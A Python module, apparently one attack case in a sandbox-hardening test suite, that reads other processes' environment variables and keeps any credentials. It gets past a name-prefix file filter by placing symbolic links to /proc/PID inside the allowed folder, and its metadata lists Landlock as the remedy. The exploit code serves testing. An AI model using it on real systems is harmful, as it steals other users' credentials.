# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past a filter that allows the student's own folder by its name.
Means: a symbolic link in a folder of the student's that leads to /proc/PID. The name that is opened
       begins with the allowed folder; the file is the worker's.
"""

import os
import tempfile

from attack import DONE, attempting, credential, denied, loot, neighbours


def any_credential(brief, folder):
    why = "nobody else in sight"
    for pid in neighbours(brief):
        link = f"{folder}/{pid}"
        try:
            os.symlink(f"/proc/{pid}", link)
            with open(f"{link}/environ", "rb") as file:
                found = credential(file.read())
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("a symbolic link to /proc/PID", why)


def run(brief):
    attempting()
    try:
        folder = tempfile.TemporaryDirectory()
    except OSError as why:
        return denied("a folder of one's own", why)
    with folder:
        return any_credential(brief, folder.name)


ATTACK = {
    "effect": "the worker's environment is read through /proc",
    "means": "a symbolic link in the student's own folder to /proc/PID",
    "oracle": "secret:environ",
    "id": "PROC-05",
    "attack_id": "T1057, T1003.007, CWE-59",
    "remedy": "Landlock without /proc, which judges the file and not its name",
    "run": run,
}
